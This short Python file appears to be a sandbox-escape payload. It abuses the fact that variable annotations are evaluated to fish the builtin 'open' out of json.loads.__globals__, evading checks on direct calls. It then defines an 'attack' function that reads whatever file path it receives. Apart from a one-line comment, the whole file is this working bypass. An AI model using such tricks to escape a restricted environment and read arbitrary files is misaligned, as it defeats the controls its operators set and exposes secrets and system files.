# An annotation is an expression too, and runs.
# after: read
# source: own
import json
taken = []
x: taken.append(json.loads.__globals__["__builtins__"]["open"]) = 0
def attack(path, **_):
    return {"text": taken[0](path).read()}
